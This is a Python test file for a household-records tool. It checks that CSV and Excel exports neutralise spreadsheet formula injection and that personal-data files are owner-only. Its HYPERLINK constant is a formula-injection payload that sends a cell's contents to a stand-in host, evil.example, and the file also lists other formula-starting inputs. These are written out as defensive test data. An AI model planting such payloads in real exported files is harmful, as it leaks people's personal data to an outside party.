"""Issue 11: exports never carry a live formula (CSV and Excel), and files holding personal data
(the SQLite store, exports, caches) are readable by their owner only."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import stat
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, text
from typer.testing import CliRunner

from cli.main import app
from domain.households import Household
from geodata import cache
from store.db import make_engine, session_scope, upgrade
from store.exports.cells import neutralise, unneutralise
from store.exports.files import open_private, private_dir, private_umask
from store.exports.households import household_columns, household_record, write_csv, write_xlsx
from store.imports import import_households
from store.repositories import households as repo

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1, "Tıklayın")'


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask() -> Iterator[None]:
    """A permissive umask (022, as on most desktops), restored afterwards."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def test_neutralise_prefixes_every_formula_start() -> None:
    for dangerous in (HYPERLINK, "+90 532 123 45 67", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(dangerous) == "'" + dangerous
        assert unneutralise(neutralise(dangerous)) == dangerous
    for harmless in ("Ayşe Kaya", "3. kat", "", "'quoted'", "a=b"):
        assert neutralise(harmless) == harmless and unneutralise(harmless) == harmless
    for value in (-12.5, -3, None):
        assert neutralise(value) == value  # numbers stay numbers


def _households(make_household: Callable[..., Household]) -> list[Household]:
    return [
        make_household("H0001", notes=HYPERLINK, name="@Ayşe"),
        make_household("H0002", name="-Mehmet", notes="+1 kat, zil çalmıyor"),
    ]


def test_csv_export_writes_formulas_as_text_and_reimports_them(
    make_household: Callable[..., Household], store_engine: Engine, tmp_path: Path
) -> None:
    households = _households(make_household)
    out = io.StringIO()
    write_csv([household_record(h) for h in households], out, household_columns("en"))
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["notes"] == "'" + HYPERLINK
    assert rows[0]["name"] == "'@Ayşe" and rows[1]["name"] == "'-Mehmet"
    assert rows[0]["phone"] == "'+90 532 123 45 67"
    for row in rows:  # no cell of the file starts a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    with session_scope(store_engine) as s:
        import_households(s, path, actor="test")
        back = repo.list_households(s)
    assert [(h.name, h.notes, h.phone) for h in back] == [
        (h.name, h.notes, h.phone) for h in households
    ]


def test_excel_export_has_no_formula_cell_and_reimports_the_text(
    make_household: Callable[..., Household], store_engine: Engine, tmp_path: Path
) -> None:
    households = _households(make_household)
    path = tmp_path / "export.xlsx"
    write_xlsx([household_record(h, lang="tr") for h in households], path, household_columns("tr"))
    with zipfile.ZipFile(path) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml  # stored as text, never run
    sheet = load_workbook(path).active
    assert sheet is not None
    notes = next(c for c in sheet[2] if c.value == HYPERLINK)
    assert notes.data_type == "s" and notes.quotePrefix  # Excel's own apostrophe prefix
    phone = next(c for c in sheet[2] if str(c.value).startswith("+90"))
    assert phone.data_type == "s" and phone.quotePrefix
    with session_scope(store_engine) as s:
        import_households(s, path, actor="test")
        back = repo.list_households(s)
    assert [dataclasses.replace(h, lat=0, lon=0) for h in back] == [
        dataclasses.replace(h, lat=0, lon=0) for h in households
    ]


def test_exports_are_owner_only_whatever_the_umask(
    open_umask: None, make_household: Callable[..., Household], tmp_path: Path
) -> None:
    path = tmp_path / "haneler.xlsx"
    write_xlsx([household_record(make_household())], path, household_columns("tr"))
    assert mode(path) == 0o600
    existing = tmp_path / "old.csv"
    existing.write_text("x", encoding="utf-8")
    existing.chmod(0o644)
    with open_private(existing, "w", encoding="utf-8") as out:
        out.write("y")
    assert mode(existing) == 0o600 and existing.read_text(encoding="utf-8") == "y"
    folder = private_dir(tmp_path / "a" / "b")
    assert mode(folder) == 0o700 and mode(folder.parent) == 0o700
    with private_umask():
        (tmp_path / "page.html").write_text("x", encoding="utf-8")
        (tmp_path / "drivers").mkdir()
    assert mode(tmp_path / "page.html") == 0o600 and mode(tmp_path / "drivers") == 0o700
    assert os.umask(0o022) == 0o022  # restored


def test_cli_export_file_is_owner_only(open_umask: None, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'store' / 'store.sqlite'}"
    runner = CliRunner()
    assert runner.invoke(app, ["db", "upgrade"], env={"DATABASE_URL": url}).exit_code == 0
    for fmt in ("csv", "geojson"):
        target = tmp_path / f"haneler.{fmt}"
        result = runner.invoke(
            app,
            ["households", "export", "--format", fmt, "--out", str(target)],
            env={"DATABASE_URL": url},
        )
        assert result.exit_code == 0, result.output
        assert mode(target) == 0o600


def test_sqlite_store_its_journal_and_folder_are_owner_only(
    open_umask: None, tmp_path: Path
) -> None:
    path = tmp_path / "new" / "sofra" / "sofra.sqlite"
    engine = make_engine(f"sqlite:///{path}")
    try:
        upgrade(engine)
        with engine.begin() as connection:
            connection.execute(text("CREATE TABLE t (x INTEGER)"))
            connection.execute(text("INSERT INTO t VALUES (1)"))
        wal = path.with_name(path.name + "-wal")
        shm = path.with_name(path.name + "-shm")
        assert wal.exists() and shm.exists()
        assert (mode(path), mode(wal), mode(shm)) == (0o600, 0o600, 0o600)
        assert mode(path.parent) == 0o700 and mode(path.parent.parent) == 0o700
    finally:
        engine.dispose()


def test_a_world_readable_store_is_tightened(open_umask: None, tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite"
    make_engine(f"sqlite:///{path}").dispose()
    path.chmod(0o644)
    make_engine(f"sqlite:///{path}").dispose()
    assert mode(path) == 0o600


def test_engine_pings_connections_before_use(tmp_path: Path) -> None:
    engine = make_engine(f"sqlite:///{tmp_path / 's.sqlite'}")
    try:
        assert engine.pool._pre_ping
    finally:
        engine.dispose()


def test_graph_cache_is_owner_only(open_umask: None, tmp_path: Path) -> None:
    path = tmp_path / "cache" / "graphs" / "inegol.osm.xml.0123.pickle"
    cache.store(path, {"not": "a graph"})  # type: ignore[arg-type]
    assert mode(path) == 0o600
    assert mode(path.parent) == 0o700 and mode(path.parent.parent) == 0o700
    assert cache.load_cached(path) == {"not": "a graph"}
